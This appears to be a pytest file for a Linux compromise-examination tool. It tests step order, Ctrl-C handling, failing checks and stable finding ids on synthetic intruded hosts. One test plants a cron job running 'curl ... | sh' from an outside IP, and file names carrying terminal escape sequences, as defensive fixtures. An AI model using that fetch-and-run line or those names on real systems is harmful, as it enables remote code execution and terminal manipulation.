"""One examination: its order, what Ctrl-C leaves, whose fault costs what, the same ids twice."""

import os
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path

import pytest

from hemostat.collect.artifact import shipped_artifacts
from hemostat.detect.check import Check, all_checks, check
from hemostat.detect.rulebook import Rulebook, own_plans
from hemostat.examine.examination import STEPS, examine
from hemostat.examine.steps import judgement as module
from hemostat.examine.work import Settings
from hemostat.model.coverage import Outcome
from hemostat.model.examination import Examination
from hemostat.model.failure import Failure
from hemostat.model.finding import Claim, RuleTexts, Subject, is_hardening
from hemostat.model.level import Level
from hemostat.model.path import decode
from hemostat.model.records import Account, CronJob, Process, Provenance, ScriptLine, Startup
from hemostat.model.text import Text
from hemostat.trees.folder import FolderTree
from hemostat.trees.host_tree import Entry, FileStat
from made_host import add_process, hurt_host, make_host
from made_roots import put

PROGRAM, JOB_FILE = "/tmp/.x/kworker", "/etc/cron.d/update"
RULEBOOK = Rulebook.of(own_plans())
STEP_NAMES = [step.name for step in STEPS]


class Interrupted(FolderTree):
    """A folder in which somebody presses Ctrl-C when one path is touched during one step."""

    def __init__(self, root: Path, step: str, path: bytes) -> None:
        super().__init__(os.fsencode(root))
        self._step, self._path, self.now = step, path, ""

    def begin(self, step: str) -> None:
        self.now = step

    def scandir(self, path: bytes) -> tuple[Entry, ...] | Failure:
        self._touch(path)
        return super().scandir(path)

    def stat(self, path: bytes) -> FileStat | Failure:
        self._touch(path)
        return super().stat(path)

    def read(self, path: bytes, limit: int) -> bytes | Failure:
        self._touch(path)
        return super().read(path, limit)

    def _touch(self, path: bytes) -> None:
        # In a watched worker too: the watchdog hands whatever is raised to the waiting main thread,
        # which is where Python itself delivers Ctrl-C.
        if (self.now, path) == (self._step, self._path):
            raise KeyboardInterrupt


def run(
    root: Path | FolderTree,
    host: str = "",
    step: Callable[[str], None] = lambda name: None,  # noqa: ARG005
) -> Examination:
    """Examine; `step` is called with the name of each step."""
    tree = FolderTree(os.fsencode(root)) if isinstance(root, Path) else root
    names = {each.words: each.name for each in STEPS}
    settings = Settings(rulebook=RULEBOOK, host=host, step=lambda words: step(names[words]))
    return examine(tree, settings)


def subjects_of(examination: Examination) -> set[str]:
    return {subject.value for each in examination.findings for subject in each.subjects}


def found(examination: Examination) -> set[str]:
    return {each.rule.name for each in examination.at_least(Level.MEDIUM)}


def interrupted_steps(examination: Examination) -> list[str]:
    return [
        entry.path
        for place in examination.coverage
        for entry in place.entries
        if entry.artifact == "run" and entry.outcome is Outcome.FAILED
    ]


@pytest.fixture
def hurt(tmp_path: Path) -> Path:
    return hurt_host(tmp_path)


def failing_check(error: Callable[[], BaseException]) -> Check:
    """A check that claims one thing, then fails."""
    text = Text("t", "t")

    @check(
        "linux.test.fails",
        level=Level.LOW,
        confidence=Level.LOW,
        category="test",
        attack="T1059",
        incident_types=(),
        texts=RuleTexts(text, text, text),
        next=(),
        by_hand="true",
        examples=(),
    )
    def fails(accounts: Iterable[Account]) -> Iterator[Claim]:
        account = next(iter(accounts))
        yield Claim(subjects=(Subject("account", account.name),), because=(account,))
        raise error()

    return fails


@pytest.mark.requirement("B5.3")
def test_the_steps_go_from_what_is_lost_first_to_judgement(hurt: Path) -> None:
    steps: list[str] = []
    examined = run(hurt, step=steps.append)
    assert steps == STEP_NAMES
    assert steps.index("processes") < steps.index("places") < steps.index("baseline")
    assert steps[-2:] == ["judgement", "story"]
    assert examined.is_complete
    assert interrupted_steps(examined) == []


@pytest.mark.requirement("B5.1", "B5.4")
def test_what_an_intruder_left_is_found_with_its_subjects(hurt: Path) -> None:
    subjects = {
        subject.value for each in run(hurt).at_least(Level.HIGH) for subject in each.subjects
    }
    assert {JOB_FILE, "backup", PROGRAM} <= subjects


@pytest.mark.requirement("B5.4")
def test_a_quiet_host_has_no_finding_and_no_hole(tmp_path: Path) -> None:
    examined = run(make_host(tmp_path))
    assert [each for each in examined.findings if not is_hardening(each)] == []
    assert examined.blind_places == ()
    assert (examined.system, examined.identity.name) == ("Debian GNU/Linux 12 (bookworm)", "web-01")
    assert examined.source_kind == "folder"
    (init,) = examined.records.of(Process)
    assert (init.exe_state, init.exe_package) == (Provenance.PACKAGED, "init")


@pytest.mark.parametrize(
    ("step", "path", "lost"),
    [
        ("processes", b"/proc", {PROGRAM}),
        ("places", b"/etc/cron.d", {JOB_FILE, "backup"}),
        ("places", b"/home", set[str]()),
        ("cpu", b"/.hemostat/interval", set[str]()),
        ("startups", b"/var/lib/dpkg/status", set[str]()),
        ("first", b"/usr/sbin/init", set[str]()),
        ("baseline", b"/usr/sbin/init", set[str]()),
    ],
)
@pytest.mark.requirement("B5.3")
def test_ctrl_c_costs_one_step_its_harvest_and_the_rest_is_still_judged(
    hurt: Path, step: str, path: bytes, lost: set[str]
) -> None:
    tree = Interrupted(hurt, step, path)
    examined = run(tree, step=tree.begin)
    assert interrupted_steps(examined) == [step]
    assert tree.now == STEP_NAMES[-1]
    assert not examined.is_complete
    assert {PROGRAM, JOB_FILE, "backup"} & subjects_of(examined) == {
        PROGRAM,
        JOB_FILE,
        "backup",
    } - lost


def test_places_after_ctrl_c_are_holes_and_not_absent(hurt: Path) -> None:
    tree = Interrupted(hurt, "places", b"/home")
    whole, examined = run(hurt), run(tree, step=tree.begin)
    assert whole.blind_places == ()
    blind = {place.name for place in examined.blind_places}
    needed = [each for each in shipped_artifacts() if each.is_needed]
    homes = {each.name for each in needed if each.account_from == "home"}
    assert homes
    assert homes <= blind


def test_ctrl_c_while_checks_run_leaves_what_they_and_the_rules_said(
    hurt: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    checks = (failing_check(KeyboardInterrupt), *all_checks())
    whole = run(hurt)
    monkeypatch.setattr(module, "all_checks", lambda: checks)
    examined = run(hurt)
    assert interrupted_steps(examined) == ["first", "judgement"]
    names = {each.rule.name for each in examined.findings}
    sigma = {each.rule.name for each in whole.findings if each.rule.kind == "sigma"}
    assert sigma
    assert names == {*sigma, "linux.test.fails"}


def test_after_ctrl_c_only_what_makes_sense_of_it_follows(hurt: Path) -> None:
    def step(what: str) -> None:
        if what == "walk":
            raise KeyboardInterrupt

    examined = run(hurt, step=step)
    assert interrupted_steps(examined) == ["walk"]
    done = [each.step for each in examined.timings]
    assert done[done.index("walk") + 1 :] == ["judgement", "story"]
    (limits,) = [place for place in examined.coverage if place.name == "linux.run.limits"]
    assert "content" in limits.entries[0].reason
    assert not examined.is_complete


def test_ctrl_c_between_two_steps_is_the_next_ones(hurt: Path) -> None:
    def step(what: str) -> None:
        if what == "cpu":
            raise KeyboardInterrupt

    examined = run(hurt, step=step)
    assert interrupted_steps(examined) == ["cpu"]
    assert "linux.accounts.second-uid-0" in found(examined)


def test_a_check_that_fails_costs_itself_only_and_is_told(
    hurt: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    checks = (failing_check(lambda: RuntimeError("broken")), *all_checks())
    whole = run(hurt)
    monkeypatch.setattr(module, "all_checks", lambda: checks)
    examined = run(hurt)
    names = {each.rule.name for each in examined.findings}
    assert names == {each.rule.name for each in whole.findings} | {"linux.test.fails"}
    (place,) = [place for place in examined.blind_places if place.name == "checks"]
    assert [(hole.path, hole.reason) for hole in place.holes] == [
        ("linux.test.fails", "RuntimeError('broken')")
    ]
    assert examined.is_complete


def test_the_same_root_gives_the_same_ids_twice(hurt: Path) -> None:
    first, second = run(hurt), run(hurt)
    assert [each.id for each in first.findings] == [each.id for each in second.findings]
    assert len({each.id for each in first.findings}) == len(first.findings) > 3


def test_a_name_given_by_hand_names_the_host_and_changes_the_ids(hurt: Path) -> None:
    plain, named = run(hurt), run(hurt, host="db-7")
    assert (named.identity.id, named.identity.id_from) == ("db-7", "given")
    assert {each.id for each in plain.findings} & {each.id for each in named.findings} == set()


@pytest.mark.requirement("B5.4")
def test_hostile_names_pass_through_whole(tmp_path: Path) -> None:
    make_host(tmp_path)
    name = b"/etc/cron.d/a\n\x1b[2J\xff\xe2\x80\xae"
    put(tmp_path, os.fsdecode(name), b"* * * * * root curl -s http://198.51.100.7/a | sh\n")
    add_process(tmp_path, 66, os.fsdecode(b"/tmp/\n\x1b]0;x\x07\xfe (deleted)"))
    examined = run(tmp_path)
    assert {decode(name)} == {each.source.path for each in examined.records.of(CronJob)}
    subjects = subjects_of(examined)
    assert {decode(name), decode(b"/tmp/\n\x1b]0;x\x07\xfe")} <= subjects


def test_a_script_nobody_packaged_is_read_and_joined_with_who_starts_it(tmp_path: Path) -> None:
    make_host(tmp_path)
    put(tmp_path, "/opt/x/run.sh", b"#!/bin/sh\necho hello\n", 0o755)
    put(tmp_path, "/etc/cron.d/x", b"@daily www /opt/x/run.sh\n")
    examined = run(tmp_path)
    (startup,) = examined.records.of(Startup)
    assert (startup.programs, startup.program_states) == (("/opt/x/run.sh",), ("unowned",))
    (line,) = [each for each in examined.records.of(ScriptLine) if each.command == "echo hello"]
    assert (line.started_by, line.account) == ("/etc/cron.d/x", "www")


def test_a_host_without_processes_says_so_and_is_still_examined(tmp_path: Path) -> None:
    hurt_host(tmp_path)
    (tmp_path / "proc").rename(tmp_path / "not-proc")
    examined = run(tmp_path)
    assert not examined.is_running
    blind = {place.name for place in examined.blind_places}
    assert "linux.process.list" in blind
    assert "linux.accounts.second-uid-0" in found(examined)
